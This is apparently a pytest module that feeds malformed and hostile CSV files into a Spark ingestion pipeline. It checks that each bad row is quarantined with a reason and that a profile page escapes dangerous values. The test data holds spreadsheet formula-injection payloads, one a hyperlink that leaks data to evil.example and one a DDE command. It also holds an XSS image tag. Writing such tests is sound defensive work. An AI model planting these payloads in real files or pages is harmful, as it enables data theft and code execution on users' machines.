"""A landing day of hostile files next to good ones, through the real ingestion on the session's Spark, in a
home of its own (the session's landing zone and datasets are left alone): every file is accounted for, by
name and reason, and the good files of that day and of the next come out as they would alone."""

from __future__ import annotations

import gzip
import json
import random
import shutil
import time
from collections import Counter
from datetime import date
from pathlib import Path
from typing import Any

import pyarrow.dataset as pads
import pytest
from flightplan.config import PipelineConfig
from flightplan.data.ingest import ingest
from flightplan.layout import Layout
from flightplan.settings import load_settings

from tests.support.pipeline import FIRST_DAY

CORPUS_DAY, GOOD_DAY, END = date(2013, 5, 1), date(2013, 5, 2), date(2013, 5, 3)
HUGE_LINE_BYTES = 24 << 20
FORMULAS = ['=HYPERLINK("http://evil.example/?leak=","click me")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1:A9)"]
MARKUP = "<img src=x onerror=alert(1)>"


def csv_field(value: str) -> str:
    return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\n') else value


def with_values(row: str, columns: list[str], **values: str) -> str:
    fields = row.split(",")
    for name, value in values.items():
        fields[columns.index(name)] = csv_field(value)
    return ",".join(fields)


def write_corpus(folder: Path, header: str, rows: list[str]) -> dict[str, tuple[int, dict[int, str]]]:
    """The hostile files, built from real rows; returns what ingestion must make of each: the rows it keeps
    and the quarantine records by line (0: the file as a whole) with the start of their reason."""
    columns = header.split(",")
    folder.mkdir(parents=True)
    files = {
        "binary.csv": gzip.compress("\n".join([header, *rows[:50]]).encode(), mtime=0)
        + random.Random(9).randbytes(50_000),
        "huge-line.csv": ("\n".join([header, *rows[0:2]]) + "\n").encode() + b"A" * HUGE_LINE_BYTES,
        "huge-first-line.csv": b"B" * HUGE_LINE_BYTES,
        "semicolons.csv": "".join(line.replace(",", ";") + "\n" for line in [header, *rows[2:5]]).encode(),
        "byte-order-mark.csv": b"\xef\xbb\xbf" + "".join(line + "\n" for line in [header, *rows[5:8]]).encode(),
        "latin-1-inside.csv": "".join(
            line + "\n" for line in [header, rows[8], with_values(rows[9], columns, dest="Montréal"), rows[10]]
        ).encode("latin-1"),
        "repeated-names.csv": "".join(line + "\n" for line in [f"{header},carrier", *rows[11:13]]).encode(),
        "formulas.csv": "".join(
            line + "\n"
            for line in [
                header,
                with_values(rows[13], columns, tailnum=FORMULAS[0], dest=FORMULAS[1]),
                with_values(rows[14], columns, tailnum=FORMULAS[2], dest=FORMULAS[3]),
                with_values(rows[15], columns, tailnum=MARKUP),
                with_values(rows[16], columns, dep_delay="=1+2"),
            ]
        ).encode(),
        "ten-thousand-columns.csv": "".join(
            line + "\n"
            for line in [
                header + "".join(f",extra_{i}" for i in range(10_000 - len(columns))),
                *[row + ",x" * (10_000 - len(columns)) for row in rows[17:20]],
            ]
        ).encode(),
        "empty.csv": b"",
        "header-only.csv": (header + "\n").encode(),
    }
    for name, content in files.items():
        (folder / name).write_bytes(content)
    not_a_header = "not a CSV file: its first line is longer than 1,048,576 bytes"
    return {
        "binary.csv": (0, {0: "not a UTF-8 CSV file: byte 0x8b at column 2 of its first line"}),
        "huge-line.csv": (2, {4: "expected 19 fields, found 1"}),
        "huge-first-line.csv": (0, {0: not_a_header}),
        "semicolons.csv": (0, dict.fromkeys([2, 3, 4], "header has none of the expected columns (is the delimiter")),
        "byte-order-mark.csv": (3, {}),
        "latin-1-inside.csv": (2, {3: "not valid UTF-8: byte 0xe9"}),
        "repeated-names.csv": (0, dict.fromkeys([2, 3], "header repeats column(s) ['carrier']")),
        "formulas.csv": (3, {5: "dep_delay: expected double, got '=1+2'"}),
        "ten-thousand-columns.csv": (3, {}),
        "empty.csv": (0, {}),
        "header-only.csv": (0, {}),
    }


def data_lines(path: Path) -> int:
    """The lines after the header that are not blank: the records a file offers."""
    return sum(1 for line in path.read_bytes().split(b"\n")[1:] if line.strip())


def curated_rows(layout: Layout, day: date) -> Counter[str]:
    rows = pads.dataset(str(layout.dataset("curated") / f"ds={day}")).to_table().to_pylist()
    return Counter(json.dumps(row, sort_keys=True, default=str) for row in rows)


@pytest.fixture(scope="module")
def hostile(
    tmp_path_factory: pytest.TempPathFactory,
    layout: Layout,
    config: PipelineConfig,
    replayed: dict[str, int],
    spark: Any,
) -> dict[str, Any]:
    """A home of its own: the session's dimension tables, the corpus and a good file on one day, the same good
    file alone on the next; ingested once on the session's Spark."""
    own = Layout(load_settings({"FLIGHTPLAN_HOME": str(tmp_path_factory.mktemp("hostile-home"))}), config)
    for dimension in config.dimensions:
        own.dimension(dimension).parent.mkdir(parents=True, exist_ok=True)
        shutil.copy(layout.dimension(dimension), own.dimension(dimension))
    good = next((layout.landing / FIRST_DAY.isoformat()).glob("*.csv"))
    header, *rows = good.read_text().splitlines()
    expected = write_corpus(own.landing / CORPUS_DAY.isoformat(), header, rows)
    (own.landing / GOOD_DAY.isoformat()).mkdir()
    for day in (CORPUS_DAY, GOOD_DAY):
        shutil.copy(good, own.landing / day.isoformat() / good.name)
    started = time.monotonic()
    manifest = json.loads(ingest(own, CORPUS_DAY, END, spark=spark, engine="spark").read_text())
    return {
        "layout": own,
        "manifest": manifest,
        "expected": expected,
        "good_rows": len(rows),
        "seconds": time.monotonic() - started,
    }


def test_every_hostile_file_is_named_with_its_reason_and_every_line_accounted_for(hostile: dict[str, Any]) -> None:
    """Each row of the corpus is in the curated day or in quarantine with its file, line and reason (a file
    with no header to read by is one record, line 0); an empty or header-only file is named in the manifest."""
    layout, manifest, expected = hostile["layout"], hostile["manifest"], hostile["expected"]
    kept = sum(rows for rows, _ in expected.values())
    assert manifest["rows"] == {
        CORPUS_DAY.isoformat(): hostile["good_rows"] + kept,
        GOOD_DAY.isoformat(): hostile["good_rows"],
    }
    quarantine = pads.dataset(str(layout.quarantine("ingest") / f"ds={CORPUS_DAY}")).to_table().to_pylist()
    found: dict[str, dict[int, str]] = {name: {} for name in expected}
    for record in quarantine:
        found[Path(record["source_file"]).name][record["line"]] = record["reason"]
    for name, (rows, reasons) in expected.items():
        assert set(found[name]) == set(reasons), name
        if 0 not in reasons:
            assert rows + len(reasons) == data_lines(layout.landing / CORPUS_DAY.isoformat() / name), name
        for line, reason in reasons.items():
            assert found[name][line].startswith(reason), (name, line, found[name][line])
    assert manifest["quarantined"] == {CORPUS_DAY.isoformat(): len(quarantine), GOOD_DAY.isoformat(): 0}
    problems = {Path(f["path"]).name: f.get("problem") for f in manifest["files"]}
    assert problems["empty.csv"] == "empty file"
    assert problems["header-only.csv"] == "no data lines after the header"
    assert problems["huge-first-line.csv"] == expected["huge-first-line.csv"][1][0]
    wide = next(f for f in manifest["files"] if f["path"].endswith("ten-thousand-columns.csv"))
    assert len(wide["unexpected_columns"]) == 9_981 and "missing_columns" not in wide
    assert hostile["seconds"] < 60


def test_the_good_files_come_out_as_they_would_alone(hostile: dict[str, Any]) -> None:
    """The day after, holding only the good file, is what the good file gives; the corpus day holds all of
    those rows too, plus only the rows the corpus files offered."""
    layout = hostile["layout"]
    alone, beside_corpus = curated_rows(layout, GOOD_DAY), curated_rows(layout, CORPUS_DAY)
    assert sum(alone.values()) == hostile["good_rows"]
    assert not alone - beside_corpus
    assert sum((beside_corpus - alone).values()) == sum(rows for rows, _ in hostile["expected"].values())


def test_formula_strings_stay_text_and_the_profile_page_shows_them_inert(hostile: dict[str, Any], spark: Any) -> None:
    """The cells a spreadsheet would run are in the curated data as they came; the profile page (the one
    thing here a person opens) shows them, and markup, as escaped text: nothing in it can run."""
    from flightplan.data.profile import profile_frame, render_html
    from flightplan.data.rewrite import read_days
    from pyspark.sql import functions as F

    layout = hostile["layout"]
    curated = read_days(spark, layout, "curated", [CORPUS_DAY])
    hostile_values = {*FORMULAS, MARKUP}
    planted = curated.where(F.col("tailnum").isin(*hostile_values) | F.col("dest").isin(*hostile_values))
    found = {value for row in planted.select("tailnum", "dest").collect() for value in row}
    assert hostile_values <= found
    page = render_html(profile_frame(planted, layout.config), "hostile values")
    assert "<img" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;,&quot;click me&quot;)" in page
    assert "=cmd|&#x27; /C calc&#x27;!A0" in page
